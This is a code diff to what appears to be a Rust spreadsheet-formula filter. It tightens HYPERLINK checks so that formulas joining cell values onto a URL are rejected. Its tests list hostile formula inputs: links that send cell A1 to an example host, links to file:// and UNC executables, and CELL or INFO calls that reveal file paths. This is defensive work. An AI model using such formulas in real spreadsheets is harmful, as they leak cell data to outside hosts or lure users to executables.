@@ -128,9 +128,13 @@ impl Tokens<'_> {
             rest.split_once('"').map(|(text, _)| text)
         };
         match upper.as_str() {
-            // What follows by `&` stays behind the host or the `#`.
+            // One text, whole: what a formula joins to an address would tell its host what the cells say.
             "HYPERLINK" => {
-                let target = literal().unwrap_or_default();
+                let alone = arguments
+                    .strip_prefix('"')
+                    .and_then(|rest| rest.split_once('"'))
+                    .is_some_and(|(_, after)| after.trim_start().starts_with([',', ')']));
+                let target = literal().filter(|_| alone).unwrap_or_default();
                 let inside =
                     target.starts_with('#') && !target.contains(['\\', '|', '[']) && !target.contains("//");
                 inside || (!self.scope.drop_links && links::allowed(&links::normalised(target)))
@@ -274,8 +278,8 @@ mod tests {
             "1E+10*.5%",
             "TEXT(A1,\"ggge年m月d日\")",
             "売上合計+1",
-            "HYPERLINK(\"https://example.jp/?q=\"&A1,\"地図\")",
-            "HYPERLINK(\"#\"&A1&\"!A1\",\"目次\")",
+            "HYPERLINK(\"https://example.jp/?q=1\" ,\"地図\"&A1)",
+            "HYPERLINK(\"#目次!A1\")",
             "CELL(\"address\",A1)",
             "INDIRECT(\"R\"&ROW()&\"C1\",FALSE)",
             "_xlfn.LET(_xlpm.f,_xlfn.LAMBDA(_xlpm.x,_xlpm.x+1),_xlpm.f(2))",
@@ -309,6 +313,9 @@ mod tests {
             "HYPERLINK(\"file:///c:/a.exe\")",
             "HYPERLINK(\"\\\\host\\a.exe\")",
             "HYPERLINK(\"https://\"&A1)",
+            "HYPERLINK(\"https://example.jp/?q=\"&A1,\"地図\")",
+            "HYPERLINK(\"https://example.jp/\"\"\"&A1,\"地図\")",
+            "HYPERLINK(\"#\"&A1&\"!A1\",\"目次\")",
             "CELL(\"filename\",A1)",
             "CELL(A1)",
             "INFO(\"directory\")",
